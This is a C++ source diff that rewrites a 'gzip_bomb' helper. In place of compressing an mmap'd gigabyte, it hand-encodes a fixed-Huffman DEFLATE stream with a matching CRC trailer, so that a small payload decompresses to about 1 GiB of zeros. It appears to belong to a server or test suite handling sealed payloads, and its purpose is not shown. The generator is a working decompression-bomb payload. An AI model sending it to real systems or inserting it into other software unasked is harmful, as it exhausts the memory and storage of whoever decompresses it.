@@ -6,8 +6,6 @@
 
 #include <libdeflate.h>
 
-#include <sys/mman.h>
-
 #include <algorithm>
 #include <stdexcept>
 
@@ -35,6 +33,56 @@ std::optional<std::string> open_with(const crypto::DecapsulationKey& key, base::
     std::string packed;
     if (!crypto::Aead(*request_key).open(nonce, sealed, packed)) return std::nullopt;
     return packed;
+}
+
+// Writes bits as DEFLATE packs them (RFC 1951 §3.1.1): the first is the lowest of its byte.
+class BitWriter {
+public:
+    explicit BitWriter(base::Bytes& out) : out_(out) {}
+
+    void put(std::uint32_t bits, unsigned count) {
+        pending_ |= std::uint64_t{bits} << pending_count_;
+        for (pending_count_ += count; pending_count_ >= 8; pending_count_ -= 8) {
+            out_.push_back(static_cast<std::uint8_t>(pending_));
+            pending_ >>= 8;
+        }
+    }
+    void put_number(std::uint32_t number) {
+        put(number & 0xFFFF, 16);
+        put(number >> 16, 16);
+    }
+
+private:
+    base::Bytes& out_;
+    std::uint64_t pending_ = 0;
+    unsigned pending_count_ = 0;
+};
+
+// Written by hand, because compressing a GiB takes long: one block of fixed Huffman codes (RFC 1951 §3.2.6) that says "a zero,
+// and again the 258 bytes before" in 13 bits a time.
+base::Bytes make_bomb() {
+    constexpr std::uint32_t repeats = (1U << 30) / 258 + 1;
+    constexpr std::uint32_t size = 1 + repeats * 258;
+    base::Bytes out = {0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255};  // RFC 1952 §2.3
+    BitWriter writer(out);
+    writer.put(0b011, 3);       // the last block, fixed codes
+    writer.put(0b00001100, 8);  // literal 0: 00110000, codes start with their highest bit
+    for (std::uint32_t i = 0; i < repeats; ++i) {
+        writer.put(0b10100011, 8);  // length 258: 11000101
+        writer.put(0, 5);           // distance 1
+    }
+    writer.put(0, 7);  // end of block
+    writer.put(0, 7);  // fills the last byte
+
+    const base::Bytes zeros(std::size_t{1} << 20);
+    std::uint32_t checksum = 0;
+    for (std::size_t left = size; left > 0; left -= std::min(left, zeros.size())) {
+        checksum = libdeflate_crc32(checksum, zeros.data(), std::min(left, zeros.size()));
+    }
+    BitWriter trailer(out);
+    trailer.put_number(checksum);
+    trailer.put_number(size);
+    return out;
 }
 
 }  // namespace
@@ -87,19 +135,7 @@ std::string chunk_event(base::ByteView sealed) {
 }
 
 const base::Bytes& gzip_bomb() {
-    static const base::Bytes bomb = [] {
-        constexpr std::size_t size = std::size_t{1} << 30;
-        // Read-only zero pages cost no memory.
-        void* zeros = ::mmap(nullptr, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
-        if (zeros == MAP_FAILED) throw std::runtime_error("no address space for the bomb");
-        libdeflate_compressor* compressor = libdeflate_alloc_compressor(1);
-        base::Bytes out(std::size_t{32} << 20);
-        out.resize(libdeflate_gzip_compress(compressor, zeros, size, out.data(), out.size()));
-        libdeflate_free_compressor(compressor);
-        ::munmap(zeros, size);
-        if (out.empty()) throw std::runtime_error("the bomb does not fit");
-        return out;
-    }();
+    static const base::Bytes bomb = make_bomb();
     return bomb;
 }
 
